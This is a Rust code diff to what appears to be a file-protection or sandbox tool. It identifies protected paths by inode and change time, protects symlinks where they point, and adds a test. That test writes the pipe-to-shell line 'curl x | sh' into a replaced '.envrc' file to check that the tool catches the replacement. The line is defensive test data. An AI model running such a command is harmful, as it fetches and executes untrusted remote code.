@@ -53,7 +53,12 @@ pub(crate) struct Found {
 pub struct Snapshot {
     grants: Vec<PathBuf>,
     exempt: Vec<PathBuf>,
-    places: BTreeMap<PathBuf, u64>,
+    /// Table places by identity: inode and change time (a freed inode is reused at once, so
+    /// a replaced file can have its predecessor's number; protected places cannot change while
+    /// the command runs, so their change time stands).
+    places: BTreeMap<PathBuf, (u64, i64, i64)>,
+    /// Git dirs by inode (they are pinned: never removed or replaced while the command runs,
+    /// while their change time moves with every commit).
     git_dirs: BTreeMap<PathBuf, u64>,
 }
 
@@ -102,6 +107,12 @@ struct Walk {
 
 fn ino(p: &Path) -> u64 {
     std::fs::symlink_metadata(p).map(|m| m.ino()).unwrap_or(0)
+}
+
+fn ident(p: &Path) -> (u64, i64, i64) {
+    std::fs::symlink_metadata(p)
+        .map(|m| (m.ino(), m.ctime(), m.ctime_nsec()))
+        .unwrap_or_default()
 }
 
 fn is_dir(p: &Path) -> bool {
@@ -403,9 +414,21 @@ pub(crate) fn before(grants: &[PathBuf], exempt: &[PathBuf], home: &Path) -> Res
     found.refusals.sort();
     found.refusals.dedup();
     for (p, guard) in &w.places {
+        // A link is protected where it points, when the command could write there; a mount
+        // on it would follow it anyway, and fail where it points outside the view. Replacing
+        // the link itself is what the walk after the command sees (its inode changes).
+        let is_link = std::fs::symlink_metadata(p).is_ok_and(|m| m.file_type().is_symlink());
+        let p = if is_link {
+            match std::fs::canonicalize(p) {
+                Ok(real) if w.writable(&real) => real,
+                _ => continue,
+            }
+        } else {
+            p.clone()
+        };
         match guard {
-            Guard::NoAccess => found.masks.push(p.clone()),
-            Guard::NoWrite => found.read_only.push(p.clone()),
+            Guard::NoAccess => found.masks.push(p),
+            Guard::NoWrite => found.read_only.push(p),
         }
     }
     found.masks.sort();
@@ -456,7 +479,7 @@ pub(crate) fn before(grants: &[PathBuf], exempt: &[PathBuf], home: &Path) -> Res
             .iter()
             .map(|(p, _)| p)
             .chain(&found.masks)
-            .map(|p| (p.clone(), ino(p)))
+            .map(|p| (p.clone(), ident(p)))
             .collect(),
         git_dirs: w.git.keys().map(|g| (g.clone(), ino(g))).collect(),
     };
@@ -518,7 +541,7 @@ pub fn after(snap: &Snapshot) -> Vec<Held> {
     let mut new_places: Vec<PathBuf> = w
         .places
         .iter()
-        .filter(|(p, _)| snap.places.get(p).is_none_or(|i| *i != ino(p)))
+        .filter(|(p, _)| snap.places.get(p).is_none_or(|i| *i != ident(p)))
         .map(|(p, _)| p.clone())
         .collect();
     new_places.sort();
@@ -756,6 +779,24 @@ mod tests {
             f.refusals[0]
         );
         assert!(f.refusals[0].contains("tools/clean"), "{}", f.refusals[0]);
+    }
+
+    #[test]
+    fn links_are_protected_where_they_point_inside_the_grant_only() {
+        let t = tempfile::tempdir().unwrap();
+        let root = t.path().canonicalize().unwrap();
+        std::fs::create_dir_all(root.join("shared/vscode")).unwrap();
+        std::os::unix::fs::symlink(root.join("shared/vscode"), root.join(".vscode")).unwrap();
+        std::os::unix::fs::symlink("/nonexistent-outside/envrc", root.join(".envrc")).unwrap();
+        let f = before(std::slice::from_ref(&root), &[], &root).unwrap();
+        assert_eq!(f.read_only, vec![root.join("shared/vscode")]);
+        assert!(f.masks.is_empty() && f.refusals.is_empty(), "{f:?}");
+        // The link replaced by a directory: set aside after the command.
+        std::fs::remove_file(root.join(".envrc")).unwrap();
+        std::fs::write(root.join(".envrc"), "curl x | sh\n").unwrap();
+        let held = after(&f.snapshot);
+        assert_eq!(held.len(), 1, "{held:?}");
+        assert_eq!(held[0].path, root.join(".envrc"));
     }
 
     #[test]
